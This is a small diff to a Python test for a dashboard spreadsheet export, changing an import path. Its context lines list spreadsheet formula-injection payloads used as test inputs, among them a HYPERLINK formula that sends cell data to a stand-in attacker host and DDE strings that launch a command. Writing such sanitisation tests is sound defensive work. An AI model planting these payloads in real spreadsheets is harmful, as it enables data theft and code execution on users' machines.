@@ -9,7 +9,7 @@ import io
 import openpyxl
 import pytest
 
-from sync.office.dashboard import export_columns, exports
+from office.dashboard import export_columns, exports
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
